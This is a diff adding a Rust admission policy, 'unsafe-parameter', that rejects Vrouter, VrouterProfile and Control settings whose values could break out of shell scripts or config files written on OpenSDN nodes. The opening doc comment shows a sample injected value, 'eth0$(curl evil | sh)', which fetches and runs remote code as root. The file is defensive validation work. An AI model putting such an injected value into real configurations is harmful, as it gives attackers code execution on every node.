@@ -1,0 +1,149 @@
+//! A value that breaks out of the shell script or configuration file that it is written into.
+//!
+//! ```yaml
+//! kind: Vrouter
+//! spec:
+//!   serviceConfiguration:
+//!     physicalInterface: "eth0$(curl evil | sh)"     # params.env is sourced by root's bash
+//! ```
+//!
+//! Values reach three places: `params.env`, which a privileged container on every node sources;
+//! ini files and scripts with passwords; environment variables by their own names. Our operator
+//! quotes for each, so this is the second line of defence; with tf-operator it is the only one.
+//!
+//! Every string of a Vrouter, a VrouterProfile and a Control is judged, the fields without effect
+//! too: they reach the same file on the day they get one. Not judged are images and commands of
+//! containers, and what the schema restricts already (addresses, networks, enumerations).
+
+mod characters;
+mod credentials;
+mod environment;
+mod texts;
+
+use opensdn_policy_components::{Compatibility, ComponentView, Services};
+use opensdn_policy_sdk::{Outcome, Pointer, Reads, Request, Verdict, policy};
+use schemars::JsonSchema;
+use serde::Deserialize;
+
+use credentials::{AuthParameters, Credentials};
+use texts::Texts;
+
+/// Settings of the policy `unsafe-parameter`.
+#[derive(Clone, Debug, Default, Deserialize, JsonSchema)]
+#[serde(default, deny_unknown_fields)]
+pub struct Settings {
+    /// With `tf-operator`: warn of the characters too that its template turns into entities.
+    pub compat: Option<Compatibility>,
+}
+
+#[derive(Reads)]
+#[reads(group = "tf.tungsten.io", kind = "Manager")]
+struct Manager {
+    #[read("/spec/commonConfiguration/authParameters")]
+    authentication: Option<AuthParameters>,
+    #[read("/spec/services")]
+    services: Option<Services<Spec>>,
+}
+
+#[derive(Reads)]
+#[reads(group = "tf.tungsten.io", kind = "*")]
+struct Alone {
+    #[read("/spec/commonConfiguration/authParameters")]
+    authentication: Option<AuthParameters>,
+    #[read("/spec")]
+    spec: Option<Spec>,
+}
+
+#[derive(Reads)]
+#[reads(group = "opensdn.io", kind = "VrouterProfile")]
+struct VrouterProfile {
+    #[read("/spec/moreConfig")]
+    environment: Option<Texts>,
+    #[read("/spec/dpdk")]
+    dpdk: Option<Texts>,
+    #[read("/spec/sriov")]
+    sriov: Option<Texts>,
+}
+
+/// What is read of the spec of any component.
+#[derive(Clone, Debug, Default, Deserialize)]
+#[serde(default, rename_all = "camelCase")]
+struct Spec {
+    service_configuration: Texts,
+}
+
+fn manager(request: &Request<Manager>, settings: &Settings, verdict: &mut Verdict) -> Outcome {
+    let Some(manager) = &request.object else { return Ok(()) };
+    if let Some(authentication) = &manager.authentication {
+        credentials::judge_keystone(authentication, "/spec".into(), verdict);
+    }
+    for component in manager.services.iter().flat_map(Services::walk) {
+        judge(&component, settings, verdict);
+    }
+    Ok(())
+}
+
+fn alone(request: &Request<Alone>, settings: &Settings, verdict: &mut Verdict) -> Outcome {
+    let Some(object) = &request.object else { return Ok(()) };
+    if let Some(authentication) = &object.authentication {
+        credentials::judge_keystone(authentication, "/spec".into(), verdict);
+    }
+    if let Some(spec) = &object.spec {
+        let component = ComponentView::alone(&request.kind, &request.name, spec);
+        judge(&component, settings, verdict);
+    }
+    Ok(())
+}
+
+fn vrouter_profile(
+    request: &Request<VrouterProfile>,
+    settings: &Settings,
+    verdict: &mut Verdict,
+) -> Outcome {
+    let Some(object) = &request.object else { return Ok(()) };
+    let spec = Pointer::from("/spec");
+    if let Some(texts) = &object.environment {
+        let at = spec.key("moreConfig");
+        environment::judge_names(texts.iter(), &at, verdict);
+        environment::judge_values(texts, &at, settings.compat, verdict);
+    }
+    for (texts, name) in [(&object.dpdk, "dpdk"), (&object.sriov, "sriov")] {
+        if let Some(texts) = texts {
+            environment::judge_values(texts, &spec.key(name), settings.compat, verdict);
+        }
+    }
+    Ok(())
+}
+
+fn judge(component: &ComponentView<'_, Spec>, settings: &Settings, verdict: &mut Verdict) {
+    let texts = &component.spec.service_configuration;
+    match component.kind {
+        "Vrouter" => {
+            let at = component.setting("/envVariablesConfig");
+            environment::judge_names(texts.below("/envVariablesConfig"), &at, verdict);
+            environment::judge_values(texts, &component.setting(""), settings.compat, verdict);
+        }
+        "Control" => {
+            // The provisioner's file is no html template, whichever operator writes it.
+            environment::judge_values(texts, &component.setting(""), None, verdict);
+            credentials::judge(&Credentials::CONTROL, texts, component, verdict);
+        }
+        "Rabbitmq" => credentials::judge(&Credentials::RABBITMQ, texts, component, verdict),
+        "Kubemanager" => credentials::judge(&Credentials::KUBEMANAGER, texts, component, verdict),
+        _ => {}
+    }
+}
+
+policy! {
+    name: "unsafe-parameter",
+    summary: "no value breaks out of the script or file that it is written into",
+    settings: Settings,
+    messages: [
+        credentials::UNSAFE_CREDENTIAL,
+        environment::BAD_NAME,
+        environment::BREAKS_THE_FILE,
+        environment::RUNS_CODE,
+        environment::UNPAIRED,
+    ],
+    validate: [manager, alone, vrouter_profile],
+}
